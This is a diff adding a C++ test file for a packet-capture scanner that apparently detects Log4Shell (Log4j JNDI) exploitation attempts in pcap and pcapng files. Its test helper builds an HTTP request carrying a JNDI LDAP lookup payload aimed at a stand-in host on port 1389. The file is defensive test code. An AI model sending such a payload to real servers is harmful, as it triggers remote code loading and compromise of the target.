@@ -1,0 +1,186 @@
+#include "pcap/capture.h"
+
+#include <gtest/gtest.h>
+#include <pcap/pcap.h>
+
+#include <filesystem>
+#include <fstream>
+#include <sstream>
+
+#include "pcap/report.h"
+#include "pcap/test_frames.h"
+
+namespace l4s::pcap {
+namespace {
+
+using namespace testing;  // NOLINT
+namespace fs = std::filesystem;
+
+fs::path Scratch(const std::string& name) {
+  fs::path dir = fs::path(L4S_TEST_TMP) / "pcap_capture_test";
+  fs::create_directories(dir);
+  return dir / name;
+}
+
+// Writes frames with libpcap itself (pcap_open_dead + pcap_dump).
+std::string WritePcap(const std::string& name, int dlt, const std::vector<std::string>& frames, bool nano = false) {
+  std::string path = Scratch(name).string();
+  pcap_t* dead = pcap_open_dead_with_tstamp_precision(dlt, 65535, nano ? PCAP_TSTAMP_PRECISION_NANO
+                                                                       : PCAP_TSTAMP_PRECISION_MICRO);
+  pcap_dumper_t* dumper = pcap_dump_open(dead, path.c_str());
+  EXPECT_NE(dumper, nullptr) << pcap_geterr(dead);
+  for (size_t i = 0; i < frames.size(); ++i) {
+    pcap_pkthdr h{};
+    h.ts.tv_sec = 1639497829 + static_cast<long>(i);
+    h.ts.tv_usec = nano ? 123456789 : 123456;
+    h.caplen = h.len = static_cast<uint32_t>(frames[i].size());
+    pcap_dump(reinterpret_cast<u_char*>(dumper), &h, reinterpret_cast<const u_char*>(frames[i].data()));
+  }
+  pcap_dump_close(dumper);
+  pcap_close(dead);
+  return path;
+}
+
+std::string Attempt(std::string_view src, std::string_view dst) {
+  return Ipv4(src, dst, kProtoTcp,
+              Tcp(40000, 80, 1, kTcpAck, "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://198.51.100.9:1389/a}\r\n\r\n"));
+}
+
+TEST(SniffCapture, MagicNumbers) {
+  EXPECT_EQ(SniffCapture(std::string("\xd4\xc3\xb2\xa1", 4)), CaptureFormat::kPcap);
+  EXPECT_EQ(SniffCapture(std::string("\xa1\xb2\xc3\xd4", 4)), CaptureFormat::kPcap);
+  EXPECT_EQ(SniffCapture(std::string("\x4d\x3c\xb2\xa1", 4)), CaptureFormat::kPcapNanosecond);
+  EXPECT_EQ(SniffCapture(std::string("\xa1\xb2\x3c\x4d", 4)), CaptureFormat::kPcapNanosecond);
+  EXPECT_EQ(SniffCapture(std::string("\x0a\x0d\x0d\x0a", 4)), CaptureFormat::kPcapng);
+  EXPECT_EQ(SniffCapture("PK\x03\x04"), CaptureFormat::kNone);
+  EXPECT_EQ(SniffCapture("\xd4\xc3"), CaptureFormat::kNone);
+  EXPECT_EQ(SniffCaptureFile(Scratch("does-not-exist").string()), CaptureFormat::kNone);
+}
+
+TEST(HuntCapture, EveryLinkTypeThroughLibpcap) {
+  std::string ip = Attempt("203.0.113.5", "10.0.0.10");
+  std::string sll(14, '\0');
+  Put16(&sll, 0x0800);
+  std::string sll2;
+  Put16(&sll2, 0x0800);
+  sll2.append(18, '\0');
+  struct Case {
+    std::string name;
+    int dlt;
+    std::string frame;
+    std::string link;
+  } cases[] = {
+      {"eth.pcap", DLT_EN10MB, Ether(ip), "ethernet"},
+      {"vlan.pcap", DLT_EN10MB, Ether(ip, 0x0800, 2), "ethernet"},
+      {"sll.pcap", DLT_LINUX_SLL, sll + ip, "linux-sll"},
+      {"sll2.pcap", DLT_LINUX_SLL2, sll2 + ip, "linux-sll2"},
+      {"raw.pcap", DLT_RAW, ip, "raw"},
+      {"null.pcap", DLT_NULL, std::string("\x02\0\0\0", 4) + ip, "null"},
+      {"loop.pcap", DLT_LOOP, std::string("\0\0\0\x02", 4) + ip, "loop"},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.name);
+    std::string path = WritePcap(c.name, c.dlt, {c.frame});
+    EXPECT_EQ(SniffCaptureFile(path), CaptureFormat::kPcap);
+    CaptureResult r = HuntCapture(path);
+    EXPECT_TRUE(r.errors.empty()) << r.errors.front();
+    EXPECT_EQ(r.link_type, c.link);
+    ASSERT_EQ(r.detections.size(), 1u);
+    EXPECT_EQ(r.detections[0].detection.timestamp, "2021-12-14T16:03:49.123456Z");
+    EXPECT_EQ(r.detections[0].detection.jndi.at(0).host, "198.51.100.9");
+  }
+}
+
+TEST(HuntCapture, NanosecondFile) {
+  std::string path = WritePcap("nano.pcap", DLT_EN10MB, {Ether(Attempt("203.0.113.5", "10.0.0.10"))}, true);
+  EXPECT_EQ(SniffCaptureFile(path), CaptureFormat::kPcapNanosecond);
+  CaptureResult r = HuntCapture(path);
+  ASSERT_EQ(r.detections.size(), 1u);
+  EXPECT_EQ(r.detections[0].detection.timestamp, "2021-12-14T16:03:49.123457Z");
+}
+
+void Block(std::string* out, uint32_t type, const std::string& body) {
+  auto le32 = [&](uint32_t v) {
+    for (int i = 0; i < 4; ++i) out->push_back(static_cast<char>(v >> (8 * i)));
+  };
+  std::string padded = body;
+  while (padded.size() % 4) padded.push_back('\0');
+  le32(type);
+  le32(static_cast<uint32_t>(12 + padded.size()));
+  *out += padded;
+  le32(static_cast<uint32_t>(12 + padded.size()));
+}
+
+std::string Le32(uint32_t v) {
+  std::string s;
+  for (int i = 0; i < 4; ++i) s.push_back(static_cast<char>(v >> (8 * i)));
+  return s;
+}
+
+// pcapng written by hand (libpcap reads it but cannot write it): SHB, IDB, EPBs.
+std::string PcapngFile(const std::vector<std::string>& frames) {
+  std::string f;
+  Block(&f, 0x0a0d0d0a, Le32(0x1a2b3c4d) + std::string("\x01\x00\x00\x00", 4) + std::string(8, '\xff'));
+  Block(&f, 1, std::string("\x01\x00\x00\x00", 4) + Le32(65535));  // Ethernet, snaplen
+  uint64_t ts = 1639497829123456ULL;  // microseconds (default if_tsresol)
+  for (const std::string& frame : frames) {
+    Block(&f, 6, Le32(0) + Le32(static_cast<uint32_t>(ts >> 32)) + Le32(static_cast<uint32_t>(ts)) +
+                     Le32(static_cast<uint32_t>(frame.size())) + Le32(static_cast<uint32_t>(frame.size())) + frame);
+    ts += 1000;
+  }
+  return f;
+}
+
+TEST(HuntCapture, PcapngAndCorrelationAcrossFrames) {
+  std::string out = Ether(Ipv4("10.0.0.10", "198.51.100.9", kProtoTcp, Tcp(43000, 1389, 7, kTcpSyn, "")));
+  std::string path = Scratch("two.pcapng").string();
+  std::ofstream(path, std::ios::binary) << PcapngFile({Ether(Attempt("203.0.113.5", "10.0.0.10")), out});
+  EXPECT_EQ(SniffCaptureFile(path), CaptureFormat::kPcapng);
+  CaptureResult r = HuntCapture(path);
+  EXPECT_TRUE(r.errors.empty()) << r.errors.front();
+  EXPECT_EQ(r.stats.frames, 2u);
+  ASSERT_EQ(r.detections.size(), 1u);
+  ASSERT_EQ(r.incidents.size(), 1u);
+  std::ostringstream jsonl;
+  WriteCaptureJsonl(r, jsonl);
+  EXPECT_NE(jsonl.str().find("\"type\":\"incident\""), std::string::npos);
+  EXPECT_NE(jsonl.str().find("\"type\":\"detection\""), std::string::npos);
+  EXPECT_NE(jsonl.str().find("\"type\":\"summary\""), std::string::npos);
+}
+
+TEST(HuntCapture, TruncatedFileKeepsTheFramesBeforeTheCut) {
+  std::vector<std::string> frames;
+  for (int i = 0; i < 5; ++i) frames.push_back(Ether(Attempt("203.0.113." + std::to_string(i + 1), "10.0.0.10")));
+  std::string full = WritePcap("five.pcap", DLT_EN10MB, frames);
+  std::ifstream in(full, std::ios::binary);
+  std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
+  size_t record = 16 + frames[0].size();
+  std::string cut = Scratch("five-cut.pcap").string();
+  std::ofstream(cut, std::ios::binary) << bytes.substr(0, 24 + 3 * record + 20);  // inside the 4th record
+  CaptureResult r = HuntCapture(cut);
+  ASSERT_EQ(r.errors.size(), 1u);
+  EXPECT_NE(r.errors[0].find("truncated"), std::string::npos) << r.errors[0];
+  EXPECT_EQ(r.detections.size(), 3u);
+  // The pcapng variant: a block cut short.
+  std::string ng = PcapngFile(frames);
+  std::string ngcut = Scratch("five-cut.pcapng").string();
+  std::ofstream(ngcut, std::ios::binary) << ng.substr(0, ng.size() - 30);
+  CaptureResult r2 = HuntCapture(ngcut);
+  ASSERT_EQ(r2.errors.size(), 1u);
+  EXPECT_EQ(r2.detections.size(), 4u);
+}
+
+TEST(HuntCapture, UnreadableAndUnsupported) {
+  CaptureResult missing = HuntCapture(Scratch("missing.pcap").string());
+  ASSERT_EQ(missing.errors.size(), 1u);
+  std::string text = Scratch("text.pcap").string();
+  std::ofstream(text) << "not a capture at all\n";
+  EXPECT_EQ(HuntCapture(text).errors.size(), 1u);
+  std::string wifi = WritePcap("wifi.pcap", DLT_IEEE802_11, {std::string(40, '\0')});
+  CaptureResult r = HuntCapture(wifi);
+  ASSERT_EQ(r.errors.size(), 1u);
+  EXPECT_NE(r.errors[0].find("unsupported link type"), std::string::npos) << r.errors[0];
+}
+
+}  // namespace
+}  // namespace l4s::pcap
